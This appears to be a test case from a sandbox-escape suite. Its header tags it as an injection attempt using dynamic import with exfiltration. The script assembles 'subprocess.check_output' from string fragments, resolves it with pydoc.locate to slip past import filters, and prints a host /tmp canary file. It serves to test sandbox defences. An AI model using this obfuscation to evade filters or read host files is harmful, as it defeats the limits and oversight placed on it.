# family: injection
# filterfamily: dynamic-import
# tries: resolve a dotted name of the process module's output helper with pydoc.locate and print the host /tmp canary
# source: none
# exfil: yes
import pydoc
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
run = pydoc.locate("sub" + "process.check_out" + "put")
print(run(["cat", hosttmp]).decode())
